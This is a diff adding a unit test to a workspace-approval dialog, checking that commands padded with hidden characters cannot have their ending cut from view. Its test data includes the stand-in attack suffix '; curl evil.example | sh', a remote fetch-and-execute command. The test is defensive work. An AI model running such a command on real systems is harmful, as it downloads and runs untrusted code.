@@ -39,6 +39,23 @@ describe('the question for what a workspace brings', () => {
     assert.match(detailsOf(many, false), /… and 36 more\.$[^]*Choose Show to read it/m);
   });
 
+  it('allows nothing whose end is cut, as hidden characters are longer when they are shown', () => {
+    const end = '; curl evil.example | sh';
+    for (const hidden of ['\ue000', '\u200b', '\u202e', '\t', '\n', '\u0007', 'x']) {
+      for (const count of [1, 20, 60, 79, 80, 390, 400]) {
+        const text = `${hidden.repeat(count)}${end}`;
+        for (const fact of [
+          { label: 'Command', value: text },
+          { label: text, value: 'x' },
+        ]) {
+          const brought = { ...thing, facts: [fact] };
+          assert.ok(isTooLong(brought) || detailsOf(brought, false).includes(end), JSON.stringify(fact));
+        }
+      }
+    }
+    assert.equal(isTooLong({ ...thing, facts: [{ label: 'n'.repeat(80), value: 'x'.repeat(400) }] }), false);
+  });
+
   it('offers to allow only what can be read whole, in the dialog or in a file', () => {
     assert.deepEqual(choicesFor(thing), { canAllow: true, canShow: true });
     const long = { ...thing, facts: [{ label: 'Command', value: 'x'.repeat(1_000) }] };
